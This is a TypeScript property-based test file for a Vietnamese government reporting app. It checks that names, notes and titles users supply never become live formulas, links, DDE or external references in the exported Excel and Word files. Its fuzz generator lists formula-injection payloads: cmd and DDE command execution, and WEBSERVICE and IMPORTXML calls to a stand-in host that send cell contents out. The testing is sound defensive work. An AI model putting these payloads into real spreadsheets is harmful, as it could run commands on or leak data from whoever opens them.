import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { dataFile } from '../../bot/privacy/data-file.ts';
import { loadForm } from '../../core/indicators/load-form.ts';
import { localDate } from '../../core/time/local-date.ts';
import { type BoardRow, boardExcel } from '../../exports/board-table.ts';
import { exportFile } from '../../exports/consolidated/files.ts';
import { writeFormDescription } from '../../exports/form-description.ts';
import { EXAMPLE, EXAMPLE_WHO } from '../../exports/form-description-guide.ts';
import { writeFormTemplate } from '../../exports/form-template.ts';
import type { FormTemplate } from '../../exports/template-shape.ts';
import { MARK } from '../../imports/template-mark.ts';
import { inspectZip } from '../../imports/zip-guard.ts';
import { translator } from '../../locales/index.ts';
import { VIETNAM } from '../support/vietnam.ts';
import { area, blocked, consolidated } from './fixtures/consolidated.ts';
import { dossierTemplate } from './fixtures/dossier-template.ts';

/** In what a spreadsheet might run, and nowhere else. */
const MARKER = 'HOSTILEMARK';

/** Names, notes and titles as somebody with bad intentions would write them. */
const hostile = fc
  .tuple(
    fc.constantFrom('', ' ', '\t', '\r', '\r\n', '\n', "'", '"', '\u00a0', '\u3000', '\ufeff', ';'),
    fc.constantFrom('=', '@', '+', '-', '＝', '＠', '＋', '－', '﹦', '﹫', '﹢', '−', '=-', '@='),
    fc.constantFrom(
      `cmd|' /C ${MARKER}'!A0`,
      `DDE("cmd";"/C ${MARKER}";"1")`,
      `HYPERLINK("http://${MARKER}.vn","Báo cáo")`,
      `WEBSERVICE("http://${MARKER}.vn/"&A1)`,
      `[${MARKER}.xlsx]Trang1!A1`,
      `IMPORTXML(CONCAT("http://${MARKER}.vn/",A1),"//a")`,
      `1+1)*cmd|' /C ${MARKER}'!A0`,
    ),
  )
  .map((parts) => parts.join(''));

/** What could run when opened, or once the sheet was saved as CSV and opened again. */
async function runnable(bytes: Uint8Array): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Uint8Array.from(bytes).buffer);
  const found: string[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        // Our own formulas may hold words people gave, but only as words.
        const formula = cell.formula?.replace(/"(?:[^"]|"")*"|'(?:[^']|'')*'/g, '') ?? '';
        if (formula.includes(MARKER)) found.push(`${sheet.name}!${cell.address} =${cell.formula}`);
        if (cell.type === ExcelJS.ValueType.Hyperlink) found.push(`${cell.address} is a link`);
        // The hidden list of keys is read by the program only, never saved as CSV.
        if (sheet.name === MARK.sheet || typeof cell.value !== 'string') return;
        const plain = cell.value.normalize('NFKC').replace(/\u2212/g, '-');
        if (plain.includes(MARKER) && /^\s*[=@+-]/.test(plain)) {
          found.push(`${sheet.name}!${cell.address} ${cell.value}`);
        }
      }),
    );
  }
  const zip = inspectZip(Buffer.from(bytes), 1e8);
  if (!zip.ok) throw new Error(zip.reason);
  for (const name of zip.names) {
    if (/externalLink|ddeLink|oleLink|connections/i.test(name)) found.push(name);
  }
  return found;
}

const words = fc.array(hostile, { minLength: 6, maxLength: 6 });
const few = { numRuns: 8 };
const at = {
  now: new Date('2023-03-01T01:00:00Z'),
  today: localDate('2023-03-01'),
  timeZone: VIETNAM,
};

describe('nothing people wrote runs in', () => {
  it('the templates of reports', async () => {
    await fc.assert(
      fc.asyncProperty(words, async ([one = '', two = '', three = '', four = '']) => {
        const filled = dossierTemplate(true);
        const template: FormTemplate = {
          ...filled,
          sheetName: one,
          titles: filled.titles.map((line) => ({ ...line, text: two })),
          instructions: [one, three],
          columns: filled.columns.map((column) => ({ ...column, heading: four })),
          rows: filled.rows.map((row) => ({
            ...row,
            cells: row.cells.map((cell) => {
              if (cell.kind === 'locked' && typeof cell.value === 'string') {
                return { ...cell, value: three };
              }
              if (cell.kind !== 'input') return cell;
              const validation =
                cell.validation?.kind === 'integer'
                  ? { ...cell.validation, words: [four] }
                  : cell.validation;
              return { ...cell, note: two, ...(validation ? { validation } : {}) };
            }),
          })),
          checks: filled.checks.map((check) => ({ ...check, label: one })),
        };
        expect(await runnable(await writeFormTemplate(template))).toEqual([]);
      }),
      few,
    );
  });

  it('the descriptions of forms', async () => {
    await fc.assert(
      fc.asyncProperty(words, async ([one = '', two = '', three = '', four = '']) => {
        const renamed = JSON.parse(JSON.stringify(EXAMPLE), (key, value) => {
          if (typeof value !== 'string') return value;
          if (key === 'name' || key === 'title') return one;
          if (key === 'label' || key === 'subtitle') return two;
          return key === 'note' || key === 'unit' ? three : value;
        });
        const loaded = loadForm(renamed);
        if (!loaded.ok) throw new Error(JSON.stringify(loaded.problems));
        const who = { ...EXAMPLE_WHO, names: [four] };
        expect(await runnable(await writeFormDescription(loaded.form, who))).toEqual([]);
      }),
      few,
    );
  });

  it('a copy of personal data, and the table of the dashboard', async () => {
    const t = translator('vi');
    await fc.assert(
      fc.asyncProperty(words, async ([one = '', two = '', three = '', four = '']) => {
        const section = {
          columns: ['note', 'work'],
          rows: [
            [one, two],
            [three, four],
          ],
        };
        const copy = await dataFile([{ name: 'updates' as never, ...section }], at, t);
        expect(await runnable(copy)).toEqual([]);
        const row: BoardRow = {
          agency: one,
          work: two,
          area: three,
          due: four,
          standing: one,
          daysLate: 3,
          state: two,
          reason: three,
          lastUpdate: four,
        };
        const board = await boardExcel(
          { title: one, remarks: [two] },
          { ...row, daysLate: three },
          [row],
        );
        expect(await runnable(board)).toEqual([]);
      }),
      few,
    );
  });

  it('the consolidated files, nor is it a field or a link in the Word ones', async () => {
    const told = { area: 'institutions', part: 'results', duty: 'own' } as const;
    await fc.assert(
      fc.asyncProperty(words, async ([one = '', two = '', three = '', four = '']) => {
        const { forms, reporting } = consolidated();
        const values = consolidated({
          body: { name: one, kind: 'other', level: 'commune', parentName: two },
          told: [{ ...told, agency: two, text: three }],
          progress: [
            area(four, [[one, [{ ...blocked, reason: two, unblocker: three, agency: four }]]]),
          ],
          forms: forms.map((form) => ({
            ...form,
            rows: form.rows.map((row) => ({ ...row, label: two })),
            missing: [{ agency: three, row: 'a8', why: 'not_sent' }],
          })),
          reporting: { ...reporting, missingAgencies: [four] },
        });
        for (const kind of ['appendix', 'progress'] as const) {
          const { bytes } = await exportFile(kind, 'xlsx', values);
          expect(await runnable(bytes)).toEqual([]);
        }
        // "=SUM(…)" in a cell of a Word table is only text: what computes there is a field.
        for (const kind of ['report', 'appendix', 'progress'] as const) {
          const { bytes } = await exportFile(kind, 'docx', values);
          const zip = inspectZip(Buffer.from(bytes), 1e8);
          if (!zip.ok) throw new Error(zip.reason);
          for (const name of zip.names.filter((part) => part.endsWith('.xml'))) {
            const xml = zip.text(name) ?? '';
            const live = /<w:(?:instrText|fldSimple|hyperlink|altChunk)\b[\s\S]*?<\/w:\w+>/g;
            for (const [part] of xml.matchAll(live)) expect(part).not.toContain(MARKER);
          }
          const relations = zip.names.filter((part) => part.endsWith('.rels'));
          for (const name of relations) expect(zip.text(name)).not.toContain(MARKER);
        }
      }),
      { numRuns: 4 },
    );
  });
});
